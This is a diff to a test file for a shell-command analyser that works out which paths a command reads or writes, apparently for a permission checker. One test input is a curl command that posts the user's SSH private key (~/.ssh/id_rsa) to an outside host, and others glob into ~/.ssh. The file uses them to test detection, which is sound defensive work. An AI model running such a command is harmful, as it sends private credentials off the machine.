@@ -199,6 +199,7 @@ describe('reading lines', () => {
       'sort x | uniq_ || true',
       'find . -name "*.ts" -type f',
       'git status',
+      'ls src/*.ts ~/x?',
       'git --no-pager log --oneline',
       'ls 2>/dev/null',
       'ls 2>&1',
@@ -242,7 +243,6 @@ describe('reading lines', () => {
     'cat $(ls)',
     'cat `ls`',
     'cat *',
-    'echo ~/.s*',
     'A=b ls',
     'A=b',
     'ls &',
@@ -290,7 +290,10 @@ describe('reading lines', () => {
     expect(paths('curl -d @~/.ssh/id_rsa -F file=@k https://example.com')).toEqual(
       expect.arrayContaining(['read ~/.ssh/id_rsa', 'read k']),
     );
-    expect(paths('ls ~/.ssh/* $X')).toEqual(['read ~/.ssh/']);
+    expect(reachOfShell('ls ~/.s*/id $X > o?').paths).toEqual([
+      { path: '~/.s*/id', access: 'read', glob: true },
+      { path: 'o?', access: 'write', glob: true },
+    ]);
     expect(paths('ls | (cat < q; $(head p))')).toEqual(expect.arrayContaining(['read q', 'read p']));
     expect(paths('{ ls; } > out')).toEqual(['write out']);
   });
